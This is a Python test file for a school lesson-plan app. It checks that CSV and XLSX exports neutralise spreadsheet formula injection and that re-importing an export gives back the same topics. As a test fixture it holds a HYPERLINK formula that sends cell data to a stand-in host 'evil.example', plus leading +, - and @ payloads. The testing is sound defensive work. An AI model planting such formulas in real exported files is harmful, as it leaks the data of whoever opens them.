"""An attacker's view of the plan export: a topic typed as a spreadsheet formula (by the plan's teacher, then
opened by a deputy or a colleague who copies the plan) is text in the CSV and XLSX downloads, never a formula,
and the exported file imports back to the same topics."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from classbook.planning import services
from classbook.planning.models import PlanTopic
from tests.conftest import client_for

URL = "/s/lyceum-1/plans/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CSV_FORMULAS = (
    "order,section,topic,hours,lesson type,homework\n"
    f'1,+Numbers,"{FORMULA.replace(chr(34), chr(34) * 2)}",2,regular,@SUM(A1)\n'
    "2,Numbers,- a dash topic,1,regular,\n"
)


def _topics(assignment):
    return list(
        PlanTopic.objects.filter(plan__assignment=assignment)
        .order_by("position")
        .values_list("title", "section", "homework")
    )


def test_a_formula_in_a_topic_is_text_in_both_exports_and_imports_back_the_same(world, assignment):
    services.import_plan_file(
        acting_user=world.teacher, assignment=assignment, filename="p.csv", content=CSV_FORMULAS.encode()
    )
    before = _topics(assignment)
    assert before[0] == (FORMULA, "+Numbers", "@SUM(A1)")
    client = client_for(world.teacher)
    book = load_workbook(io.BytesIO(client.get(f"{URL}a/{assignment.pk}/plan.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(str(c.value).startswith(("=", "+", "-", "@")) for c in cells)
    exported = client.get(f"{URL}a/{assignment.pk}/plan.csv").content
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
    services.import_plan_file(acting_user=world.teacher, assignment=assignment, filename="p.csv", content=exported)
    assert _topics(assignment) == before
